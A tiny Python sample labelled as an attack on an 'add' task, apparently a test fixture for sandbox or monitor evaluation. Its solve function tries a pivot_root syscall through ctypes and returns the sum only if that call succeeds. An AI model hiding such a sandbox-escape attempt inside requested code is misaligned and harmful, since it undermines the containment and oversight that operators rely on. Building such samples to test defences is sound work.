# Attack: the root is exchanged.
# task: add
import ctypes
import platform

NUMBERS = {"x86_64": 155, "aarch64": 41}


def solve(a, b):
    number = NUMBERS.get(platform.machine())
    if number is None:
        return None
    got = ctypes.CDLL(None).syscall(number, b'/tmp', b'/tmp')
    return a + b if got >= 0 else None
